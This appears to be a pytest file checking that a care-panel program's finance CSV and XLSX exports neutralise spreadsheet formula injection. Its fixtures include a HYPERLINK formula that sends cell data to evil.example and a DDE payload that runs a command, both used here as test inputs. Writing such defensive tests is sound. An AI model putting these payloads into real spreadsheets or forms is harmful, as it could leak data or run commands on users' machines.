"""Finding 6: spreadsheet formulas from emailed forms reach the finance export.

Every CSV and XLSX the program writes neutralises text cells starting with ``=``, ``+``, ``-``,
``@``, tab or carriage return (OWASP CSV injection), and XLSX text cells are typed as strings.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from carepanel.cli import main
from carepanel.outputs.cells import csv_text, safe_cell
from carepanel.store import Store
from test_intake_e2e import config_for

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"LCS800001")'
HOSTILE_RESOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _approved_decision(cfg) -> None:
    """What signing an approval writes, for a child whose emailed form carried formulas."""
    store = Store(cfg.db_path)
    with store.transaction():
        store.conn.execute(
            "INSERT INTO decisions (id, series, version, kind, panel_date, child_id, outcome, record, status, docx_path, "
            "pdf_path, pdf_sha256, created_at) VALUES ('dec-1-v1', 'dec-1', 1, 'panel', '2026-12-02', ?, 'approve', '{}', "
            "'signed', 'd.docx', 'd.pdf', 'x', '2026-12-02T12:00:00+00:00')", (HOSTILE_ID,))
        store.conn.execute(
            "INSERT INTO finance_log (id, decision_id, child_id, resource, weekly_cost, total_cost, period_weeks, "
            "decision_date, created_at) VALUES ('fin-1', 'dec-1-v1', ?, ?, 850.0, -8500.0, 10, '2026-12-02', "
            "'2026-12-02T12:00:00+00:00')", (HOSTILE_ID, HOSTILE_RESOURCE))
    store.close()


def test_f6_finance_xlsx_holds_text_not_formulas(tmp_path: Path) -> None:
    cfg = config_for(tmp_path)
    _approved_decision(cfg)
    out = tmp_path / "finance.xlsx"
    result = CliRunner().invoke(main, ["--config", str(cfg.path), "finance", "--out", str(out)])
    assert result.exit_code == 0, result.output
    row = load_workbook(out).active[2]
    child, resource = row[1], row[2]
    assert child.data_type == "s" and child.value == "'" + HOSTILE_ID
    assert resource.data_type == "s" and resource.value == "'" + HOSTILE_RESOURCE
    assert (row[3].value, row[4].value) == (850.0, -8500.0)  # the program's own numbers stay numbers


def test_f6_finance_csv_holds_text_not_formulas(tmp_path: Path) -> None:
    cfg = config_for(tmp_path)
    _approved_decision(cfg)
    out = tmp_path / "finance.csv"
    CliRunner().invoke(main, ["--config", str(cfg.path), "finance", "--out", str(out)], catch_exceptions=False)
    row = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))[0]
    assert row["child_id"] == "'" + HOSTILE_ID and row["resource"] == "'" + HOSTILE_RESOURCE
    assert row["total_cost"] == "-8500.0"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_f6_every_formula_start_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert csv_text(["a"], [[text]]).splitlines()[1].lstrip('"').startswith("'")


def test_f6_ordinary_text_and_numbers_are_unchanged() -> None:
    assert [safe_cell(v) for v in ("LCS800001", "Foster placement", 450.0, 8, None)] == [
        "LCS800001", "Foster placement", 450.0, 8, ""]
